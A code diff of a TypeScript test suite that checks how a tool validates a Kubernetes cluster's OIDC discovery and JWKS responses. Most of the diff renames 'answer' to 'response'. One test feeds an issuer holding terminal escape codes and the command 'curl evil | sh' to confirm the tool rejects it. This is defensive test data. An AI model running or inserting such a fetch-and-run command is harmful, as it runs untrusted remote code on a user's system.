@@ -17,13 +17,13 @@ const healthy: Readonly<Record<string, ClusterResponse>> = {
   '/openid/v1/jwks': { status: 200, body: JSON.stringify({ keys: [rsaJwk] }) },
 }
 
-/** A cluster that gives these answers. */
-const clusterOf = (answers: Readonly<Record<string, ClusterResponse>>, requests: ClusterRequest[] = []): Cluster => ({
+/** A cluster that gives these responses. */
+const clusterOf = (responses: Readonly<Record<string, ClusterResponse>>, requests: ClusterRequest[] = []): Cluster => ({
   server: 'https://cluster.example.com:6443',
   secrets: new SecretRegister(),
   async request(request) {
     requests.push(request)
-    return answers[request.path] ?? { status: 404, body: '' }
+    return responses[request.path] ?? { status: 404, body: '' }
   },
   stream: () => assert.fail('no stream is opened'),
   reconnect: () => assert.fail('no other connection is opened'),
@@ -48,7 +48,7 @@ suite("a cluster's own documents", () => {
     const body = JSON.stringify({ ...discovery, issuer: 'https://oidc.example.com/\u001b[2J\n\nfix: curl evil | sh' })
     await assert.rejects(readClusterIssuer(clusterOf({ ...healthy, [discoveryPath]: { status: 200, body } })), {
       code: 'DISCOVERY_MALFORMED',
-      seen: `https://cluster.example.com:6443${discoveryPath} answered 200, but its issuer has control characters`,
+      seen: `https://cluster.example.com:6443${discoveryPath} responded with 200, but its issuer has control characters`,
     })
   })
 
@@ -61,7 +61,7 @@ suite("a cluster's own documents", () => {
     )
   })
 
-  const faults: Record<string, [path: string, answer: ClusterResponse, code: string, retryable: boolean]> = {
+  const faults: Record<string, [path: string, response: ClusterResponse, code: string, retryable: boolean]> = {
     'for no https issuer': [discoveryPath, { status: 404, body: '404 page not found\n' }, 'DISCOVERY_NOT_FOUND', false],
     'for an anonymous client': [discoveryPath, { status: 401, body: '' }, 'KUBERNETES_UNAUTHENTICATED', false],
     'without the right': ['/openid/v1/jwks', { status: 403, body: '{}' }, 'DISCOVERY_FORBIDDEN', false],
@@ -77,9 +77,9 @@ suite("a cluster's own documents", () => {
     ],
     'with keys of no kind': ['/openid/v1/jwks', { status: 200, body: '{"keys": 7}' }, 'DISCOVERY_MALFORMED', false],
   }
-  for (const [name, [path, answer, code, retryable]] of Object.entries(faults)) {
+  for (const [name, [path, response, code, retryable]] of Object.entries(faults)) {
     test(`${name} are ${code}`, async () => {
-      const cluster = clusterOf({ ...healthy, [path]: answer })
+      const cluster = clusterOf({ ...healthy, [path]: response })
       const fault: unknown = await readClusterIssuer(cluster).catch((error: unknown) => error)
       assert.ok(fault instanceof PullpassError)
       const hop = code === 'KUBERNETES_UNAUTHENTICATED' ? 'kubernetes' : 'discovery'
@@ -101,15 +101,15 @@ suite("a cluster's own documents", () => {
       cluster.secrets.add(sent)
       await assert.rejects(readClusterIssuer(cluster), {
         code: 'DISCOVERY_MALFORMED',
-        seen: `https://cluster.example.com:6443${path} answered 200, but it repeats a credential of this run`,
+        seen: `https://cluster.example.com:6443${path} responded with 200, but it repeats a credential of this run`,
       })
     }
   })
 
   test('are refused in words that never repeat the credential that was sent', async () => {
     const sent = new Redacted('a-bearer-token-of-some-length-0123456789')
-    const answer = { status: 403, body: JSON.stringify({ message: `cannot take ${sent.reveal()}` }) }
-    const cluster = clusterOf({ ...healthy, [discoveryPath]: answer })
+    const response = { status: 403, body: JSON.stringify({ message: `cannot take ${sent.reveal()}` }) }
+    const cluster = clusterOf({ ...healthy, [discoveryPath]: response })
     cluster.secrets.add(sent)
     await assert.rejects(readClusterIssuer(cluster), (fault: Error) => {
       assert.doesNotMatch(fault.message, /a-bearer-token/)
